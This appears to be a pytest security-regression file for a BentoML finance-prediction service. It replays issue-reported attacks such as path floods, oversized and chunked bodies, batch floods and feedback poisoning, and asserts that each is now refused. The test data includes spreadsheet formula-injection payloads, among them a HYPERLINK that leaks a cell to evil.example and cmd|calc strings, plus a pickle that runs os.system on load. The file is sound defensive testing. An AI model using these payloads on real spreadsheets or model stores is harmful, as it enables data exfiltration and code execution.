"""Issue #19's attacks, reproduced against the real `bentoml serve` of the session (bounded
loops, loopback only). Each test failed on the service before the fix."""

from __future__ import annotations

import concurrent.futures
import json
import socket
import time
import uuid

import httpx
import pandas as pd
import pytest

from tests.serving.conftest import (
    ADMIN_KEY,
    API_KEY,
    AUTH_FAILURES_BURST,
    AUTH_FAILURES_PER_SEC,
    BULK_KEYS,
    FEEDBACK_CAP,
    FEEDBACK_KEY,
    METRICS_KEY,
    ROWS_KEY,
)
from tests.serving.test_service import TX

pytestmark = pytest.mark.slow

MiB = 2**20


def _metrics(url: str) -> tuple[str, float]:
    started = time.perf_counter()
    text = httpx.get(f"{url}/metrics", headers={"Authorization": f"Bearer {METRICS_KEY}"},
                     timeout=30).text
    return text, time.perf_counter() - started


def _metric_files_size(server) -> int:
    import os
    from pathlib import Path

    folders = {os.environ.get("PROMETHEUS_MULTIPROC_DIR")}
    for process in server.processes():
        try:
            folders.add(process.environ().get("PROMETHEUS_MULTIPROC_DIR"))
        except Exception:  # noqa: BLE001 - a process that just ended
            pass
    return sum(f.stat().st_size for folder in folders if folder
               for f in Path(folder).glob("*.db"))


def _wait_for_auth_budget() -> None:
    """The flood spent this address's failed-auth budget; let it refill for later tests."""
    time.sleep(AUTH_FAILURES_BURST / AUTH_FAILURES_PER_SEC + 0.5)


def test_random_paths_without_a_key_create_no_state(server):
    """Random paths from anyone: BentoML labelled its metrics with each raw path (worker
    298 → 613 MB, /metrics 44 MB and 14.6 s to scrape after 10,000). Now bounded."""
    url = server.url
    with httpx.Client(base_url=url, timeout=10) as http:
        for _ in range(300):  # warm-up: allocators and caches reach their steady state
            http.get(f"/x/{uuid.uuid4()}")
        before_text, _ = _metrics(url)
        rss_before = server.worker().memory_info().rss
        files_before = _metric_files_size(server)
        statuses = {}
        with httpx.Client(base_url=url, timeout=10,
                          headers={"Authorization": f"Bearer {API_KEY}"}) as keyed:
            for i in range(3000):
                path = f"/x/{uuid.uuid4()}"
                status = (keyed if i % 3 == 0 else http).get(path).status_code
                statuses[status] = statuses.get(status, 0) + 1
    after_text, scrape_seconds = _metrics(url)
    rss_growth = server.worker().memory_info().rss - rss_before
    files_growth = _metric_files_size(server) - files_before
    _wait_for_auth_budget()
    assert set(statuses) <= {401, 404, 429} and statuses.get(404) == 1000
    assert statuses.get(429, 0) > 1000  # failed-auth floods are throttled per address
    assert "/x/" not in after_text
    assert len(after_text) - len(before_text) < 2_000, "metrics grew with the paths"
    assert scrape_seconds < 1.0
    assert files_growth < 64 * 1024
    assert rss_growth < 20 * MiB, f"worker grew {rss_growth / MiB:.1f} MiB"


def test_an_8_mb_type_is_refused_briefly_and_nothing_keeps_it(server, service_log):
    """20 different 8 MB `type` values grew the worker 329 → 685 MB (cached, echoed in the
    400 and in an ERROR log line)."""
    url = server.url
    rss_before = server.worker().memory_info().rss
    headers = {"Authorization": f"Bearer {API_KEY}"}
    with httpx.Client(base_url=url, timeout=60, headers=headers) as http:
        for i in range(5):
            value = chr(ord("a") + i) * (8 * 10**6 - 200)
            batch = http.post("/predict/batch", json={"transactions": [{**TX, "type": value}]})
            assert batch.status_code == 400, batch.text[:300]
            body = batch.json()
            assert body["detail"][0]["loc"] == ["transactions", 0, "type"]
            assert len(batch.content) < 2000 and value[:100] not in batch.text
            single = http.post("/predict/category", json={**TX, "type": value})
            assert single.status_code == 413  # a single transaction's body limit
        livez = time.perf_counter()
        assert httpx.get(f"{url}/livez").status_code == 200
        assert time.perf_counter() - livez < 1.0
    log = service_log()
    assert "aaaaaaaaaa" * 10 not in log and "Traceback" not in log
    assert server.worker().memory_info().rss - rss_before < 40 * MiB


def _chunked(total: int, chunk: int = 1 * MiB):
    sent = 0
    while sent < total:
        size = min(chunk, total - sent)
        sent += size
        yield b" " * size


def test_chunked_bodies_are_counted_on_the_bytes_received(server):
    """85 MB chunked to /predict/batch was read whole (worker 294 MB → 1.31 GB, kept)."""
    headers = {"Authorization": f"Bearer {API_KEY}", "Content-Type": "application/json"}
    rss_before = server.worker().memory_info().rss
    try:
        response = httpx.post(f"{server.url}/predict/batch", content=_chunked(40 * MiB),
                              headers=headers, timeout=30)
        assert response.status_code == 413 and response.json()["error"] == "payload_too_large"
    except httpx.RemoteProtocolError:
        pass  # the server answered 413 and closed while we were still sending: also right
    assert server.worker().memory_info().rss - rss_before < 40 * MiB
    # the same for a small endpoint, with a declared length (refused before reading)
    response = httpx.post(f"{server.url}/predict/category", content=b" " * (100 * 1024),
                          headers=headers, timeout=30)
    assert response.status_code == 413
    assert httpx.get(f"{server.url}/livez").status_code == 200


def test_multipart_and_pickle_bodies_are_refused_with_415(server):
    """191 MB multipart to /validate was spooled to a temp file (1.8 GB peak); BentoML's
    pickle content type reached the parser."""
    headers = {"Authorization": f"Bearer {API_KEY}"}
    multipart = httpx.post(f"{server.url}/validate", headers=headers, timeout=30,
                           files={"transactions": ("t.json", b"x" * (2 * MiB))})
    assert multipart.status_code == 415 and multipart.json()["error"] == "unsupported_media_type"
    pickled = httpx.post(f"{server.url}/predict/category", content=b"\x80\x04K\x01.",
                         headers={**headers, "Content-Type": "application/vnd.bentoml+pickle"})
    assert pickled.status_code == 415
    form = httpx.post(f"{server.url}/predict/category", data={"description": "x"},
                      headers=headers)
    assert form.status_code == 415


def test_batch_rows_count_against_the_key_and_work_is_bounded(server):
    """One 10,000-row batch cost one rate-limit token; five concurrent ones gave 504s and
    blocked /models for 57 s."""
    url = server.url
    big = {"transactions": [{**TX, "description": f"SHELL OIL {i} HOUSTON TX"}
                            for i in range(10_000)]}
    with httpx.Client(base_url=url, timeout=120,
                      headers={"Authorization": f"Bearer {ROWS_KEY}"}) as http:
        first = http.post("/predict/batch", json=big)
        assert first.status_code == 200 and len(first.json()["results"]) == 10_000
        again = http.post("/predict/batch", json={"transactions": [TX] * 5000})
        assert again.status_code == 429 and int(again.headers["retry-after"]) >= 1
        assert "transactions per second" in again.json()["message"]

    batch = {"transactions": [{**TX, "description": f"ACME {i}"} for i in range(6000)]}

    def send(key):
        started = time.perf_counter()
        response = httpx.post(f"{url}/predict/batch", json=batch, timeout=120,
                              headers={"Authorization": f"Bearer {key}"})
        return response.status_code, time.perf_counter() - started

    probes = []
    with concurrent.futures.ThreadPoolExecutor(len(BULK_KEYS)) as pool:
        futures = [pool.submit(send, key) for key in BULK_KEYS]
        time.sleep(1.0)
        for _ in range(5):  # while the batches run: probes and /models answer at once
            started = time.perf_counter()
            assert httpx.get(f"{url}/livez", timeout=10).status_code == 200
            assert httpx.get(f"{url}/models", timeout=10,
                             headers={"Authorization": f"Bearer {API_KEY}"}).status_code == 200
            probes.append(time.perf_counter() - started)
            time.sleep(0.3)
        results = [f.result() for f in futures]
    statuses = sorted(status for status, _ in results)
    assert 504 not in statuses and set(statuses) <= {200, 503}
    assert statuses.count(503) >= 2  # at most 2 batches admitted at once (test setting)
    busy = [seconds for status, seconds in results if status == 503]
    assert max(busy) < 5.0  # refused at once, not after a wait
    assert max(probes) < 2.0, probes


def test_formula_injection_is_neutralised_in_the_file_and_read_back_exactly(
        server, corrections_path):
    """`=HYPERLINK(...)`, `+cmd|...`, `@SUM(...)` were written verbatim into the CSV the
    docs invite users to open in a spreadsheet."""
    from titans_finance.core.corrections import validate_corrections

    payloads = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "'=already quoted"]
    headers = {"Authorization": f"Bearer {API_KEY}"}
    for i, text in enumerate(payloads):
        response = httpx.post(f"{server.url}/feedback", headers=headers, json={
            "date": "2025-03-14", "description": text, "amount": -5.0, "category": "meals",
            "reference": f"=FORMULA-{i}"})
        assert response.status_code == 200, response.text
    raw = pd.read_csv(corrections_path, dtype=str, keep_default_na=False)
    written = raw[raw["reference"].str.startswith("'=FORMULA-")]
    assert len(written) == len(payloads)
    for cell in [*written["description"], *written["reference"]]:
        assert not cell.startswith(("=", "+", "-", "@")), cell
    usable, _ = validate_corrections(raw)
    read_back = usable[usable["reference"].str.startswith("=FORMULA-")]
    assert read_back["description"].tolist() == payloads


def test_nul_bytes_are_refused_and_a_bom_does_not_block_feedback(server, tmp_path):
    headers = {"Authorization": f"Bearer {API_KEY}"}
    nul = httpx.post(f"{server.url}/feedback", headers=headers,
                     json={"reference": "INV-\x00-cut", "category": "fuel"})
    assert nul.status_code == 400 and nul.json()["detail"][0]["loc"] == ["reference"]


def test_corrections_record_the_key_are_capped_and_an_operator_can_revert_them(
        server, corrections_path):
    """Any key could post 221 corrections/s without limit (three consistent ones become a
    rule), and nothing recorded who sent them."""
    import subprocess
    import sys

    from titans_finance.serving.security import key_id

    headers = {"Authorization": f"Bearer {FEEDBACK_KEY}"}
    with httpx.Client(base_url=server.url, headers=headers, timeout=30) as http:
        statuses = [http.post("/feedback", json={"reference": f"POISON-{i}",
                                                 "date": "2025-03-14", "amount": -5.0,
                                                 "category": "owner_draw"}).status_code
                    for i in range(FEEDBACK_CAP + 3)]
    assert statuses[:FEEDBACK_CAP] == [200] * FEEDBACK_CAP and statuses[FEEDBACK_CAP:] == [429] * 3
    rows = pd.read_csv(corrections_path, dtype=str, keep_default_na=False)
    mine = rows[rows["reference"].str.startswith("POISON-")]
    assert len(mine) == FEEDBACK_CAP and set(mine["submitted_by"]) == {key_id(FEEDBACK_KEY)}
    assert FEEDBACK_KEY not in corrections_path.read_text()

    cli = [sys.executable, "-m", "titans_finance.command_line", "corrections"]
    listed = subprocess.run([*cli, "list", "--path", str(corrections_path)], capture_output=True,
                            text=True, check=True).stdout
    assert key_id(FEEDBACK_KEY) in listed and str(FEEDBACK_CAP) in listed
    reverted = subprocess.run([*cli, "revert", "--key-id", key_id(FEEDBACK_KEY), "--path",
                               str(corrections_path)], capture_output=True, text=True, check=True)
    assert f"removed {FEEDBACK_CAP} corrections" in reverted.stdout
    rows = pd.read_csv(corrections_path, dtype=str, keep_default_na=False)
    assert not rows["reference"].str.startswith("POISON-").any() and len(rows) > 0
    with httpx.Client(base_url=server.url, headers=headers, timeout=30) as http:
        assert http.post("/feedback", json={"reference": "AFTER-REVERT",
                                            "date": "2025-03-14", "amount": -5.0,
                                            "category": "fuel"}).status_code == 200


def test_reload_needs_an_admin_key(server):
    response = httpx.post(f"{server.url}/models/reload",
                          headers={"Authorization": f"Bearer {API_KEY}"})
    assert response.status_code == 403 and "admin" in response.json()["message"]


def test_the_service_listens_on_loopback_by_default(server):
    """It listened on 0.0.0.0; the session's server was started without --host."""
    listening = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            local, state = line.split()[1], line.split()[3]
            address, port = local.split(":")
            if state == "0A" and int(port, 16) == server.port:  # LISTEN
                listening.add(address)
    assert listening == {"0100007F"}, listening  # 127.0.0.1 only
    with socket.socket() as sock:
        sock.settimeout(2)
        assert sock.connect_ex(("127.0.0.1", server.port)) == 0


def test_client_errors_are_logged_as_one_info_line_each(server, service_log):
    """Every 400 was logged at ERROR with a pydantic traceback."""
    headers = {"Authorization": f"Bearer {API_KEY}"}
    with httpx.Client(base_url=server.url, headers=headers, timeout=30) as http:
        for _ in range(10):
            bad = http.post("/predict/category", json={**TX, "date": "2024-13-45"})
            assert bad.status_code == 400
    log = service_log()
    assert "Traceback" not in log and " ERROR " not in log.replace("[ERROR]", " ERROR ")
    lines = [line for line in log.splitlines() if "client error on /predict/category" in line]
    assert len(lines) == 10 and all("date" in line for line in lines)


def test_metrics_are_bounded_and_protected(server):
    assert httpx.get(f"{server.url}/metrics").status_code == 401
    text, _ = _metrics(server.url)
    assert 'titans_http_requests_total{endpoint="other"' in text
    assert "bentoml_service_request_total" not in text  # BentoML's per-path series are off


def test_admin_key_reloads_and_a_tampered_artefact_is_refused(server, bentoml_home,
                                                               manifest_path, tmp_path):
    """Whoever could write the store ran code in the service on reload (a planted pickle
    ran `id`): the digest recorded at packaging is checked before unpickling."""
    import os
    import pickle
    from pathlib import Path

    manifest = json.loads(manifest_path.read_text())
    name, version = manifest["tags"]["amount"].split(":")
    target = Path(bentoml_home) / "models" / name / version / "model.pkl"
    original = target.read_bytes()
    marker = tmp_path / "pwned"

    class Planted:
        def __reduce__(self):
            return (os.system, (f"touch {marker}",))

    try:
        target.write_bytes(pickle.dumps(Planted()))
        with httpx.Client(base_url=server.url, timeout=60,
                          headers={"Authorization": f"Bearer {ADMIN_KEY}"}) as http:
            refused = http.post("/models/reload")
            assert refused.status_code == 503 and "SHA-256" in refused.json()["message"]
            assert not marker.exists()
            assert http.post("/predict/amount", json=TX).status_code == 200  # still serving
    finally:
        target.write_bytes(original)
